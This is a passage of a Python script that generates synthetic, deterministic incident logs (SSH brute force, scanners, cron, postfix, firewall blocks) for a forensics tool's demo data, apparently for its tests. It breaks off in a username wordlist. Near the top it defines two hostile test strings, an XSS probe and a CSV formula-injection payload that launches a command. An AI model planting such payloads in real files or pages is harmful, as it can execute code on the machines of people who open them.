#!/usr/bin/env python3
"""Generate Tideline's bundled demo incident (synthetic evidence files).

Everything written by this script is synthetic and released under CC0.
Python 3.11+, standard library only.  Deterministic: a fixed seed, no clock
reads, no locale-dependent formatting, LF line endings.  Running it twice
gives byte-identical files.

Usage (from anywhere):
    python3 sample-data/generate.py           # (re)write all files
    python3 sample-data/generate.py --check   # regenerate in memory, compare,
                                              # exit 1 if anything differs

Outputs (paths relative to sample-data/):
    incident-2026-03/bastion-01/auth.log
    incident-2026-03/bastion-01/messages-rfc5424.log
    incident-2026-03/bastion-01/malformed.log
    incident-2026-03/web-01/syslog
    incident-2026-03/db-01/auth.log
    incident-2026-03/web-01/access.log        nginx combined, +0000
    incident-2026-03/web-01/access-cet.log    nginx combined, +0100
    incident-2026-03/aws/cloudtrail.json      CloudTrail delivery file
    incident-2026-03/ws-alice/sysmon.jsonl    Windows events (NXLog/OTRF JSON)
    incident-2026-03/EXPECTED.md      facts for tests (computed from the files)
    incident-2026-03/expected.json    the same facts, machine-readable
    rollover/syslog-newyear.log
    README.md                         only the blocks between
                                      <!-- BEGIN GENERATED: x --> markers
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import itertools
import json
import re
import sys
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
import random

SEED = 20260314
UTC = timezone.utc
ROOT = Path(__file__).resolve().parent
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

ATTACKER_IP = "203.0.113.45"      # brute force / interactive attacker
DROP_IP = "198.51.100.7"          # payload + exfiltration server
BASTION_IP = "10.20.0.5"
WEB_IP = "10.20.0.7"
DB_IP = "10.20.0.9"
ALICE_WS = "10.20.0.11"
BOB_WS = "10.20.0.12"
CI_IP = "10.20.0.30"
MAILRELAY = "10.20.0.25"

HOSTILE_SCRIPT = "<script>alert(1)</script>"
HOSTILE_CSV = "=cmd|' /C calc'!A0"

START = datetime(2026, 3, 11, 18, 0, 0, tzinfo=UTC)
END = datetime(2026, 3, 14, 18, 0, 0, tzinfo=UTC)
# alice turns PasswordAuthentication off on bastion-01 (sshd reload)
PASSWORD_AUTH_OFF = datetime(2026, 3, 14, 8, 58, 5, 740000, tzinfo=UTC)


def R(name: str) -> random.Random:
    """A named, independently seeded RNG (str seeds are hashed with SHA-512,
    so they do not depend on PYTHONHASHSEED)."""
    return random.Random(f"{SEED}:{name}")


def at(s: str) -> datetime:
    return datetime.fromisoformat(s).replace(tzinfo=UTC)


def sec(x: float) -> timedelta:
    return timedelta(seconds=x)


# --------------------------------------------------------------------------
# Lazily numbered things (PIDs, logind sessions, audit serials).  They get
# their numbers in time order when the host's events are walked, so PIDs and
# session ids grow over time like on a real machine.
# --------------------------------------------------------------------------

class Lazy:
    __slots__ = ("kind", "value")

    def __init__(self, kind: str, value: int | None = None):
        self.kind = kind
        self.value = value

    def __format__(self, spec: str) -> str:
        if self.value is None:
            raise RuntimeError(f"unassigned {self.kind}")
        return format(self.value, spec)

    def __str__(self) -> str:
        return format(self, "")


def P(value: int | None = None) -> Lazy:
    return Lazy("pid", value)


def S() -> Lazy:
    return Lazy("session")


class Host:
    def __init__(self, name: str, pid_start: int, pid_rate: float,
                 counters: dict[str, int], boot: datetime | None = None):
        self.name = name
        self.pid_next = pid_start
        self.pid_rate = pid_rate       # background PIDs consumed per second
        self.counters = dict(counters)
        self.boot = boot
        self.rng = R(f"host:{name}")

    def uptime(self, ts: datetime) -> str:
        d = ts - self.boot
        us = d.days * 86400 * 1_000_000 + d.seconds * 1_000_000 + d.microseconds
        return f"[{us // 1_000_000:5d}.{us % 1_000_000:06d}]"


@dataclass
class FileSpec:
    rel: str
    host: Host
    fmt: str              # "3164", "iso", "5424", "hidden"


@dataclass
class Event:
    file: FileSpec
    ts: datetime
    sort_ts: datetime
    order: int
    prog: str
    proc: object          # Lazy, int or None
    fmt: str
    args: dict
    tags: tuple
    extra: dict = field(default_factory=dict)

    def lazies(self):
        if isinstance(self.proc, Lazy):
            yield self.proc
        for v in self.args.values():
            if isinstance(v, Lazy):
                yield v
        for v in self.extra.get("sd_args", {}).values():
            if isinstance(v, Lazy):
                yield v


EVENTS: list[Event] = []
_ORDER = itertools.count()


def emit(f: FileSpec, ts: datetime, prog: str, msg: str, proc=None,
         tags=(), sort_ts: datetime | None = None, **kw) -> Event:
    """Add one log line.  `msg` is a str.format template filled from kw
    (Lazy objects are allowed as values).  Keys starting with x_ go to extra."""
    extra = {k[2:]: v for k, v in kw.items() if k.startswith("x_")}
    args = {k: v for k, v in kw.items() if not k.startswith("x_")}
    if isinstance(tags, str):
        tags = (tags,)
    ev = Event(f, ts, sort_ts or ts, next(_ORDER), prog, proc, msg, args,
               tuple(tags), extra)
    EVENTS.append(ev)
    return ev


def spawn(host_hidden: FileSpec, ts: datetime, proc: Lazy):
    """Allocate a PID at `ts` for a process that logs nothing itself."""
    emit(host_hidden, ts, "", "", proc=proc)


def assign_numbers(host: Host, events: list[Event]):
    last = None
    for ev in sorted(events, key=lambda e: (e.sort_ts, e.order)):
        for lz in ev.lazies():
            if lz.value is not None:
                continue
            if lz.kind == "pid":
                if last is not None:
                    gap = (ev.ts - last).total_seconds() * host.pid_rate
                    host.pid_next += int(gap)
                host.pid_next += host.rng.randint(1, 4)
                last = ev.ts
                lz.value = host.pid_next
            else:
                step = 1
                if lz.kind == "auditseq":
                    step = host.rng.randint(3, 40)
                host.counters[lz.kind] += step
                lz.value = host.counters[lz.kind]


# --------------------------------------------------------------------------
# Rendering
# --------------------------------------------------------------------------

def ts3164(ts: datetime) -> str:
    return f"{MONTHS[ts.month - 1]} {ts.day:2d} {ts:%H:%M:%S}"


def tsiso(ts: datetime) -> str:
    return f"{ts:%Y-%m-%dT%H:%M:%S}.{ts.microsecond:06d}+00:00"


def ts5424(ts: datetime) -> str:
    return f"{ts:%Y-%m-%dT%H:%M:%S}.{ts.microsecond // 1000:03d}Z"


def render(ev: Event) -> str:
    if "raw" in ev.extra:
        return ev.extra["raw"].format(**ev.args) if ev.args else ev.extra["raw"]
    msg = ev.fmt.format(**ev.args) if ev.args else ev.fmt
    host = ev.file.host.name
    if ev.file.fmt == "5424":
        sd = ev.extra.get("sd", "-")
        if ev.extra.get("sd_args"):
            sd = sd.format(**ev.extra["sd_args"])
        procid = "-" if ev.proc is None else f"{ev.proc}"
        return (f"<{ev.extra['pri']}>1 {ts5424(ev.ts)} {host} {ev.prog} "
                f"{procid} {ev.extra.get('msgid', '-')} {sd} {msg}")
    tag = ev.prog if ev.proc is None else f"{ev.prog}[{ev.proc}]"
    stamp = ts3164(ev.ts) if ev.file.fmt == "3164" else tsiso(ev.ts)
    return f"{stamp} {host} {tag}: {msg}"


# --------------------------------------------------------------------------
# Hosts and files
# --------------------------------------------------------------------------

INC = "incident-2026-03"


def init_world():
    """(Re)create hosts and files, so that every build starts from scratch."""
    global BASTION, WEB, DB, FRAG, EDGE, F_BAUTH, F_B5424, F_BMAL, F_WEB, \
        F_DB, F_ROLL, H_BASTION, H_DB, H_WEB, OUTPUT_FILES
    BASTION = Host("bastion-01", 38410, 0.031,
                   {"session": 1183, "auditseq": 81200},
                   boot=at("2026-02-27 04:12:33.410211"))
    WEB = Host("web-01", 51877, 0.074, {"session": 611},
               boot=at("2026-03-02 05:40:07.118305"))
    DB = Host("db-01", 22064, 0.017, {"session": 402},
              boot=at("2026-02-19 03:15:51.902117"))
    # malformed.log: bastion-01 again, right after auth.log ends; its PID
    # counter is continued from BASTION's in build()
    FRAG = Host("bastion-01", 0, 0.031, {"session": 0})
    EDGE = Host("edge-01", 99310, 0.05, {"session": 77},
                boot=at("2025-12-20 09:01:12.004120"))
    F_BAUTH = FileSpec(f"{INC}/bastion-01/auth.log", BASTION, "3164")
    F_B5424 = FileSpec(f"{INC}/bastion-01/messages-rfc5424.log", BASTION, "5424")
    F_BMAL = FileSpec(f"{INC}/bastion-01/malformed.log", FRAG, "3164")
    F_WEB = FileSpec(f"{INC}/web-01/syslog", WEB, "3164")
    F_DB = FileSpec(f"{INC}/db-01/auth.log", DB, "iso")
    F_ROLL = FileSpec("rollover/syslog-newyear.log", EDGE, "3164")
    H_BASTION = FileSpec("", BASTION, "hidden")
    H_DB = FileSpec("", DB, "hidden")
    H_WEB = FileSpec("", WEB, "hidden")
    OUTPUT_FILES = [F_BAUTH, F_WEB, F_DB, F_B5424, F_BMAL, F_ROLL]

# long-running daemons (fixed PIDs)
SSHD_MAIN = {"bastion-01": 688, "db-01": 701}
LOGIND = {"bastion-01": 612, "db-01": 598, "web-01": 604}
CROND = {"bastion-01": 598, "db-01": 571}
AUDITD = 743
QMGR = 1187

USERS = {
    "alice": {"uid": 1000, "key": "ED25519 SHA256:q7WcV3l0m1s8dJ8xZ0bq0cHnX6rW2pTg1Yk9vN4uE3A"},
    "bob": {"uid": 1001, "key": "RSA SHA256:Lk2p9Qm4Yt7Hc1rVx8Zf3Ns6Bw0Ge5Ju2Da9Ko4Tq1"},
    "deploy": {"uid": 1002, "key": "ED25519 SHA256:Zr3xC8vB1nM6aS9dF2gH5jK0lQ7wE4rT1yU8iO3pL6c"},
}
ROOT_BASTION_KEY = "ED25519 SHA256:Hm8Kd2Lq5Vz0Xc7Bn4Ma1Sf6Gh9Jk3Pw2Ry5Tu8Io0E"


# --------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------

def cron_job(f: FileSpec, t: datetime, user: str, uid: int, cmd: str,
             dur: float, pam: bool = True, tags=()):
    """A cron job.  auth.log files on this estate also receive cron.* (see
    README), so they carry the pam_unix(cron:session) pair and the CMD line."""
    p = P()
    if pam:
        emit(f, t, "CRON", "pam_unix(cron:session): session opened for user "
             f"{user}(uid={uid}) by (uid=0)", p)
    emit(f, t + sec(0.002), "CRON", "({user}) CMD ({cmd})", p, tags,
         user=user, cmd=cmd)
    if pam:
        emit(f, t + sec(dur), "CRON",
             f"pam_unix(cron:session): session closed for user {user}", p)


def sudo(f: FileSpec, t: datetime, user: str, uid: int, cmd: str,
         dur: float = 0.6, tty: str = "pts/0", pwd: str | None = None,
         tags=(), runas: str = "root"):
    pwd = pwd or (f"/home/{user}")
    emit(f, t, "sudo",
         "{u:>8} : TTY={tty} ; PWD={pwd} ; USER={runas} ; COMMAND={cmd}",
         None, tags, u=user, tty=tty, pwd=pwd, runas=runas, cmd=cmd)
    if cmd != "list":
        emit(f, t + sec(0.004), "sudo", "pam_unix(sudo:session): session "
             f"opened for user root(uid=0) by {user}(uid={uid})")
        emit(f, t + sec(dur), "sudo",
             "pam_unix(sudo:session): session closed for user root")


@dataclass
class Sess:
    f: FileSpec
    user: str
    uid: int
    ip: str
    port: int
    pid: Lazy
    sid: Lazy


def ssh_open(f: FileSpec, t: datetime, user: str, ip: str, port: int,
             method: str = "publickey", key: str | None = None,
             user_manager: bool = True, tags=(), uid: int | None = None,
             pid: Lazy | None = None) -> Sess:
    uid = USERS[user]["uid"] if uid is None else uid
    p = pid or P()
    sid = S()
    suffix = ""
    if method == "publickey":
        suffix = ": " + (key or USERS[user]["key"])
    emit(f, t, "sshd",
         "Accepted {m} for {u} from {ip} port {port} ssh2{suffix}", p, tags,
         m=method, u=user, ip=ip, port=port, suffix=suffix)
    emit(f, t + sec(0.011), "sshd", "pam_unix(sshd:session): session opened "
         f"for user {user}(uid={uid}) by (uid=0)", p)
    emit(f, t + sec(0.024), "systemd-logind", "New session {sid} of user "
         f"{user}.", LOGIND[f.host.name], sid=sid)
    if user_manager:
        emit(f, t + sec(0.061), "(systemd)", "pam_unix(systemd-user:session): "
             f"session opened for user {user}(uid={uid}) by (uid=0)", P())
    return Sess(f, user, uid, ip, port, p, sid)


def ssh_close(s: Sess, t: datetime, client: bool = True, tags=()):
    f = s.f
    if client:
        emit(f, t, "sshd", "Received disconnect from {ip} port {port}:11: "
             "disconnected by user", s.pid, tags, ip=s.ip, port=s.port)
        emit(f, t + sec(0.001), "sshd", "Disconnected from user {u} {ip} port "
             "{port}", s.pid, u=s.user, ip=s.ip, port=s.port)
    emit(f, t + sec(0.004), "sshd", "pam_unix(sshd:session): session closed "
         f"for user {s.user}", s.pid, () if client else tags)
    lg = LOGIND[f.host.name]
    emit(f, t + sec(0.009), "systemd-logind",
         "Session {sid} logged out. Waiting for processes to exit.", lg,
         sid=s.sid)
    emit(f, t + sec(0.021), "systemd-logind", "Removed session {sid}.", lg,
         sid=s.sid)


def web_session(t0: datetime, t1: datetime, user: str):
    """What an SSH session on web-01 leaves in /var/log/syslog (the auth
    lines go to auth.log, which is not part of this data set)."""
    uid = USERS[user]["uid"]
    sid = S()
    um = P()
    f = F_WEB
    emit(f, t0 + sec(0.03), "systemd", f"Created slice user-{uid}.slice - "
         f"User Slice of UID {uid}.", 1)
    emit(f, t0 + sec(0.05), "systemd", f"Starting user@{uid}.service - "
         f"User Manager for UID {uid}...", 1)
    spawn(H_WEB, t0 + sec(0.06), um)
    emit(f, t0 + sec(0.21), "systemd", f"Started user@{uid}.service - "
         f"User Manager for UID {uid}.", 1)
    emit(f, t0 + sec(0.23), "systemd", "Started session-{sid}.scope - "
         f"Session {{sid}} of User {user}.", 1, sid=sid)
    emit(f, t1, "systemd", "session-{sid}.scope: Deactivated successfully.",
         1, sid=sid)
    emit(f, t1 + sec(10.1), "systemd", f"Stopping user@{uid}.service - "
         f"User Manager for UID {uid}...", 1)
    emit(f, t1 + sec(10.2), "systemd", f"user@{uid}.service: Deactivated "
         "successfully.", 1)
    emit(f, t1 + sec(10.2), "systemd", f"Stopped user@{uid}.service - "
         f"User Manager for UID {uid}.", 1)
    emit(f, t1 + sec(10.3), "systemd", f"Removed slice user-{uid}.slice - "
         f"User Slice of UID {uid}.", 1)


def unit_run(f: FileSpec, t: datetime, unit: str, desc: str, dur: float,
             cpu: float | None = None):
    emit(f, t, "systemd", f"Starting {unit} - {desc}...", 1)
    emit(f, t + sec(dur), "systemd", f"{unit}: Deactivated successfully.", 1)
    if cpu is not None:
        emit(f, t + sec(dur + 0.001), "systemd",
             f"{unit}: Consumed {cpu:.3f}s CPU time.", 1)
    emit(f, t + sec(dur + 0.002), "systemd", f"Finished {unit} - {desc}.", 1)


def ufw(f: FileSpec, t: datetime, host: Host, src: str, dst: str, spt: int,
        dpt: int, rng: random.Random, direction: str = "in", ttl: int = 49,
        tags=(), sort_ts=None, iface: str = "ens18"):
    if direction == "in":
        io = f"IN={iface} OUT= MAC=52:54:00:1e:0a:0{host.name[-1]}:52:54:00:" \
             f"9f:31:c2:08:00"
    else:
        io = f"IN= OUT={iface}"
    body = (f"[UFW BLOCK] {io} SRC={src} DST={dst} LEN=60 TOS=0x00 PREC=0x00 "
            f"TTL={ttl} ID={rng.randint(1000, 65000)} DF PROTO=TCP SPT={spt} "
            f"DPT={dpt} WINDOW={rng.choice([64240, 29200, 65535, 1024])} "
            "RES=0x00 SYN URGP=0")
    if f.fmt == "5424":
        emit(f, t, "kernel", body, None, tags, sort_ts=sort_ts, x_pri=4)
    else:
        emit(f, t, "kernel", host.uptime(t) + " " + body, None, tags,
             sort_ts=sort_ts)


def audit(t: datetime, msgid: str, body: str, tags=(), sd: str | None = None,
          sd_args: dict | None = None, pri: int = 86, **kw):
    """An auditd record forwarded to the SIEM in RFC 5424."""
    seq = Lazy("auditseq")
    epoch = int(t.timestamp())
    ms = t.microsecond // 1000
    emit(F_B5424, t, "auditd", "type={mt} msg=audit({ep}.{ms:03d}:{seq}): " + body,
         AUDITD, tags, mt=msgid, ep=epoch, ms=ms, seq=seq,
         x_pri=pri, x_msgid=msgid,
         x_sd=sd if sd is not None else f'[origin ip="{BASTION_IP}"]',
         x_sd_args=sd_args or {}, **kw)


def hexarg(s: str) -> str:
    return s.encode().hex().upper()


# --------------------------------------------------------------------------
# Background noise
# --------------------------------------------------------------------------

def hours(start: datetime, end: datetime):
    t = start.replace(minute=0, second=0, microsecond=0)
    while t < end:
        yield t
        t += timedelta(hours=1)


def every(start: datetime, end: datetime, minutes: int, offset: int = 0):
    t = start.replace(minute=0, second=0, microsecond=0) + timedelta(minutes=offset)
    while t < end:
        if t >= start:
            yield t
        t += timedelta(minutes=minutes)


def cron_noise():
    rng = R("cron")
    # bastion-01 and db-01: auth.log also holds cron.*
    for f, host in ((F_BAUTH, "bastion-01"), (F_DB, "db-01")):
        for h in hours(START, END):
            t = h + timedelta(minutes=17) + sec(1 + rng.random() * 0.3)
            cron_job(f, t, "root", 0, "cd / && run-parts --report /etc/cron.hourly",
                     0.2 + rng.random() * 0.4)
        for d in (at("2026-03-12 06:25:01"), at("2026-03-13 06:25:01"),
                  at("2026-03-14 06:25:01")):
            cron_job(f, d + sec(rng.random() * 0.3), "root", 0,
                     "test -x /usr/sbin/anacron || { cd / && run-parts "
                     "--report /etc/cron.daily; }", 20 + rng.random() * 30)
    for t in every(START, END, 120, 42):
        cron_job(F_BAUTH, t + sec(1 + rng.random() * 0.2), "root", 0,
                 "/usr/local/sbin/sync-authorized-keys >/dev/null 2>&1",
                 1.5 + rng.random() * 2)
    for t in every(START, END, 30, 10):
        cron_job(F_DB, t + sec(1 + rng.random() * 0.2), "prometheus", 998,
                 "/usr/local/bin/mysql-textfile-metrics.sh "
                 "/var/lib/prometheus/node-exporter", 0.8 + rng.random())
    for d in (at("2026-03-12 01:30:01"), at("2026-03-13 01:30:01"),
              at("2026-03-14 01:30:01")):
        cron_job(F_DB, d + sec(rng.random() * 0.2), "root", 0,
                 "/usr/local/sbin/mysql-backup.sh >/var/log/mysql-backup.log 2>&1",
                 200 + rng.random() * 60)

    # web-01 syslog: only the CMD lines (pam lines go to auth.log there)
    for h in hours(START, END):
        cron_job(F_WEB, h + timedelta(minutes=17) + sec(1 + rng.random() * 0.3),
                 "root", 0, "cd / && run-parts --report /etc/cron.hourly", 0,
                 pam=False)
    for t in every(START, END, 15):
        cron_job(F_WEB, t + sec(1 + rng.random() * 0.2), "www-data", 33,
                 "php /var/www/shop/bin/console messenger:consume async "
                 "--time-limit=840 >/dev/null 2>&1", 0, pam=False)
    for t in every(START, END, 30, 9):
        cron_job(F_WEB, t + sec(1 + rng.random() * 0.2), "root", 0,
                 "  [ -x /usr/lib/php/sessionclean ] && if [ ! -d "
                 "/run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
                 0, pam=False)
        unit_run(F_WEB, t + sec(0.01 + rng.random() * 0.05),
                 "phpsessionclean.service", "Clean php session files",
                 0.3 + rng.random() * 0.5)
    for d in (at("2026-03-12 06:25:01"), at("2026-03-13 06:25:01"),
              at("2026-03-14 06:25:01")):
        cron_job(F_WEB, d + sec(rng.random() * 0.3), "root", 0,
                 "test -x /usr/sbin/anacron || { cd / && run-parts --report "
                 "/etc/cron.daily; }", 0, pam=False)


def web_noise():
    rng = R("web")
    f = F_WEB
    for day in (at("2026-03-12 00:00:00"), at("2026-03-13 00:00:00"),
                at("2026-03-14 00:00:00")):
        t = day + sec(0.2 + rng.random() * 0.2)
        unit_run(f, t, "dpkg-db-backup.service",
                 "Daily dpkg database backup service", 0.4 + rng.random() * 0.3)
        t2 = day + sec(0.3 + rng.random() * 0.2)
        emit(f, t2, "systemd", "Starting logrotate.service - Rotate log files...", 1)
        emit(f, t2 + sec(0.9), "systemd", "Reloading nginx.service - A high "
             "performance web server and a reverse proxy server...", 1)
        emit(f, t2 + sec(1.0), "systemd", "Reloaded nginx.service - A high "
             "performance web server and a reverse proxy server.", 1)
        emit(f, t2 + sec(1.3), "rsyslogd", '[origin software="rsyslogd" '
             'swVersion="8.2302.0" x-pid="583" x-info="https://www.rsyslog.com"]'
             ' rsyslogd was HUPed', None)
        emit(f, t2 + sec(1.6), "systemd", "logrotate.service: Deactivated "
             "successfully.", 1)
        emit(f, t2 + sec(1.6), "systemd", "Finished logrotate.service - "
             "Rotate log files.", 1)
        # apt timers (randomised like apt-daily.timer)
        ta = day + timedelta(hours=rng.randint(7, 19), minutes=rng.randint(0, 59),
                             seconds=rng.randint(0, 59))
        if START < ta < END:
            unit_run(f, ta, "apt-daily.service", "Daily apt download activities",
                     6 + rng.random() * 8, cpu=2 + rng.random() * 3)
        tu = day + timedelta(hours=6, minutes=rng.randint(0, 50),
                             seconds=rng.randint(0, 59))
        unit_run(f, tu, "apt-daily-upgrade.service",
                 "Daily apt upgrade and clean activities", 3 + rng.random() * 4,
                 cpu=1 + rng.random() * 2)
        tt = day + timedelta(hours=rng.randint(0, 23), minutes=rng.randint(0, 59))
        if START < tt < END:
            unit_run(f, tt, "systemd-tmpfiles-clean.service",
                     "Cleanup of Temporary Directories", 0.05 + rng.random() * 0.1)
        tm = day + timedelta(hours=rng.randint(0, 23), minutes=rng.randint(0, 59))
        if START < tm < END:
            unit_run(f, tm, "man-db.service", "Daily man-db regeneration",
                     1 + rng.random(), cpu=0.4 + rng.random() * 0.4)
    # e2scrub / fstrim weekly-ish one-offs
    unit_run(f, at("2026-03-12 01:04:18.221905"), "fstrim.service",
             "Discard unused blocks on filesystems from /etc/fstab", 2.7,
             cpu=0.012)

    # postfix: app + cron mails through the internal relay
    mails = []
    t = START + sec(rng.randint(900, 5000))
    while t < END:
        mails.append(t)
        t += sec(rng.randint(2 * 3600, 7 * 3600))
    for i, t in enumerate(mails):
        qid = "".join(rng.choice("0123456789ABCDEF") for _ in range(10))
        qid2 = "".join(rng.choice("0123456789ABCDEF") for _ in range(10))
        pick, clean, smtp = P(), P(), P()
        frm = "www-data" if i % 3 else "root"
        uid = 33 if frm == "www-data" else 0
        rcpt = "orders@example.com" if frm == "www-data" else "ops@example.com"
        size = rng.randint(900, 14000)
        emit(f, t, "postfix/pickup", f"{qid}: uid={uid} from=<{frm}>", pick)
        emit(f, t + sec(0.01), "postfix/cleanup", f"{qid}: message-id=<"
             f"{t:%Y%m%d%H%M%S}.{qid}@web-01.example.com>", clean)
        emit(f, t + sec(0.02), "postfix/qmgr", f"{qid}: from=<{frm}@web-01."
             f"example.com>, size={size}, nrcpt=1 (queue active)", QMGR)
        d1, d2, d3 = (round(rng.uniform(0.01, 0.09), 2),
                      round(rng.uniform(0.01, 0.05), 2),
                      round(rng.uniform(0.05, 0.3), 2))
        d4 = round(rng.uniform(0.02, 0.2), 2)
        tot = round(d1 + d2 + d3 + d4, 2)
        emit(f, t + sec(0.02 + tot), "postfix/smtp", f"{qid}: to=<{rcpt}>, "
             f"relay=mx-01.example.com[{MAILRELAY}]:25, delay={tot}, "
             f"delays={d1}/{d2}/{d3}/{d4}, dsn=2.0.0, status=sent (250 2.0.0 "
             f"Ok: queued as {qid2})", smtp)
        emit(f, t + sec(0.03 + tot), "postfix/qmgr", f"{qid}: removed", QMGR)

    # internet scanners hitting closed ports (all from 192.0.2.0/24)
    t = START + sec(rng.randint(300, 2400))
    while t < END:
        src = f"192.0.2.{rng.randint(100, 250)}"
        for k in range(rng.choice([1, 1, 2])):
            ufw(f, t + sec(k * 1.01), WEB, src, WEB_IP, rng.randint(32768, 60999),
                rng.choice([23, 3389, 5900, 8443, 6379, 2375, 445, 1433, 8088]),
                rng, ttl=rng.choice([43, 47, 50, 241, 242]))
        t += sec(rng.randint(1800, 6000))


def scanner_noise():
    """Low-rate internet SSH noise against bastion-01 (192.0.2.0/24)."""
    rng = R("scan")
    f = F_BAUTH
    names = ["admin", "user", "test", "oracle", "ubuntu", "postgres", "git",
             "guest", "ftpuser", "pi", "support", "hadoop"]
    t = START + sec(rng.randint(600, 3000))
    while t < END:
        # keep the attacker window clean of other noise so it reads clearly
        if at("2026-03-14 02:05:00") < t < at("2026-03-14 03:20:00"):
            t += sec(3600)
            continue
        ip = f"192.0.2.{rng.randint(100, 250)}"
        port = rng.randint(32768, 60999)
        p = P()
        kind = rng.choice(["closed", "closed", "kex", "invalid", "invalid",
                           "root", "banner"])
        if kind == "closed":
            emit(f, t, "sshd", f"Connection closed by {ip} port {port} [preauth]", p)
        elif kind == "kex":
            emit(f, t, "sshd", "error: kex_exchange_identification: Connection "
                 "closed by remote host", p)
            emit(f, t + sec(0.0004), "sshd",
                 f"Connection closed by {ip} port {port}", p)
        elif kind == "banner":
            emit(f, t, "sshd", f"banner exchange: Connection from {ip} port "
                 f"{port}: invalid format", p)
        elif kind == "invalid":
            u = rng.choice(names)
            emit(f, t, "sshd", f"Invalid user {u} from {ip} port {port}", p)
            if t > PASSWORD_AUTH_OFF:
                emit(f, t + sec(0.4), "sshd", f"Connection closed by invalid "
                     f"user {u} {ip} port {port} [preauth]", p)
            else:
                emit(f, t + sec(0.3), "sshd",
                     "pam_unix(sshd:auth): check pass; user unknown", p)
                emit(f, t + sec(0.3), "sshd", "pam_unix(sshd:auth): "
                     "authentication failure; logname= uid=0 euid=0 tty=ssh "
                     "ruser= rhost=" + ip, p)
                emit(f, t + sec(2.4), "sshd", f"Failed password for invalid "
                     f"user {u} from {ip} port {port} ssh2", p)
                emit(f, t + sec(2.7), "sshd", f"Received disconnect from {ip} "
                     f"port {port}:11: Bye Bye [preauth]", p)
                emit(f, t + sec(2.7), "sshd", f"Disconnected from invalid user "
                     f"{u} {ip} port {port} [preauth]", p)
        elif t > PASSWORD_AUTH_OFF:
            emit(f, t, "sshd", f"Connection closed by authenticating user root "
                 f"{ip} port {port} [preauth]", p)
        else:
            emit(f, t, "sshd", "pam_unix(sshd:auth): authentication failure; "
                 f"logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root", p)
            emit(f, t + sec(2.1), "sshd", f"Failed password for root from {ip} "
                 f"port {port} ssh2", p)
            emit(f, t + sec(2.5), "sshd", f"Received disconnect from {ip} port "
                 f"{port}:11: Bye Bye [preauth]", p)
            emit(f, t + sec(2.5), "sshd", f"Disconnected from authenticating "
                 f"user root {ip} port {port} [preauth]", p)
        t += sec(rng.randint(1500, 7200))


ADMIN_CMDS = {
    "bastion-01": [
        ("/usr/bin/apt list --upgradable", 2.1),
        ("/usr/bin/journalctl -u ssh --since today", 14.0),
        ("/usr/bin/systemctl status ssh", 3.2),
        ("/usr/bin/tail -n 100 /var/log/auth.log", 4.0),
        ("/usr/sbin/ufw status numbered", 0.8),
        ("/usr/bin/vim /etc/ssh/sshd_config.d/10-hardening.conf", 95.0),
    ],
    "db-01": [
        ("/usr/bin/mysql -e SHOW PROCESSLIST", 1.2),
        ("/usr/bin/systemctl status mariadb", 2.5),
        ("/usr/bin/tail -n 50 /var/log/mysql-backup.log", 3.0),
        ("/usr/bin/du -sh /var/backups/mysql", 1.9),
        ("/usr/bin/journalctl -u mariadb --since -2h", 20.0),
    ],
    "web-01": [],
}


def admin_noise():
    rng = R("admins")
    days = [at("2026-03-12 00:00:00"), at("2026-03-13 00:00:00")]
    plan = []  # (start, user)
    for d in days:
        for user, n in (("alice", rng.randint(3, 4)), ("bob", rng.randint(2, 3))):
            slots = sorted(rng.sample(range(7 * 60 + 30, 17 * 60), n))
            last_end = None
            for m in slots:
                t = d + timedelta(minutes=m, seconds=rng.randint(0, 59),
                                  microseconds=rng.randint(0, 999999))
                if last_end and t < last_end + timedelta(minutes=2):
                    t = last_end + timedelta(minutes=3)
                dur = rng.randint(4 * 60, 55 * 60)
                plan.append((t, user, dur))
                last_end = t + sec(dur)
    # an evening on-call check by bob on Mar 11
    plan.append((at("2026-03-11 19:42:16.418230"), "bob", 9 * 60))
    for t, user, dur in sorted(plan):
        _admin_session(rng, t, user, dur)

    # CI deploys: deploy@10.20.0.30 with its key, ProxyJump through bastion-01
    for d in days:
        for m in sorted(rng.sample(range(9 * 60, 17 * 60), rng.randint(2, 3))):
            t = d + timedelta(minutes=m, seconds=rng.randint(0, 59),
                              microseconds=rng.randint(0, 999999))
            port = rng.randint(32768, 60999)
            s = ssh_open(F_BAUTH, t, "deploy", CI_IP, port, user_manager=False)
            dur = 25 + rng.random() * 50
            web_session(t + sec(0.6), t + sec(dur - 0.5), "deploy")
            emit(F_WEB, t + sec(dur * 0.6), "systemd", "Reloading php8.2-fpm."
                 "service - The PHP 8.2 FastCGI Process Manager...", 1)
            emit(F_WEB, t + sec(dur * 0.6 + 0.3), "systemd", "Reloaded php8.2-"
                 "fpm.service - The PHP 8.2 FastCGI Process Manager.", 1)
            ssh_close(s, t + sec(dur))


def _admin_session(rng, t, user, dur):
    ws = ALICE_WS if user == "alice" else BOB_WS
    uid = USERS[user]["uid"]
    s = ssh_open(F_BAUTH, t, user, ws, rng.randint(32768, 60999))
    cursor = t + sec(rng.randint(20, 90))
    for _ in range(rng.choice([0, 1, 1, 2])):
        cmd, d = rng.choice(ADMIN_CMDS["bastion-01"])
        sudo(F_BAUTH, cursor, user, uid, cmd, d + rng.random())
        cursor += sec(d + rng.randint(30, 200))
    end = t + sec(dur)
    hop = rng.choice([None, "web-01", "db-01", "db-01"])
    if hop and cursor + sec(300) < end:
        h0 = cursor + sec(rng.randint(5, 40))
        h1 = min(end - sec(20), h0 + sec(rng.randint(120, 1500)))
        if hop == "web-01":
            web_session(h0, h1, user)
        else:
            hs = ssh_open(F_DB, h0, user, BASTION_IP, rng.randint(32768, 60999))
            c = h0 + sec(rng.randint(15, 60))
            for _ in range(rng.choice([1, 1, 2])):
                cmd, d = rng.choice(ADMIN_CMDS["db-01"])
                if c + sec(d + 5) >= h1:
                    break
                sudo(F_DB, c, user, uid, cmd, d + rng.random())
                c += sec(d + rng.randint(20, 120))
            ssh_close(hs, h1)
    ssh_close(s, end)


# --------------------------------------------------------------------------
# The incident
# --------------------------------------------------------------------------

WORDLIST = [
    "admin", "test", "user", "ubuntu", "debian", "oracle", "postgres", "git",
    "ftpuser", "guest", "pi", "support", "ansible", "jenkins", "hadoop",
    "minecraft", "teamspeak", "deployer", "dev", "devops", "www", "webadmin",
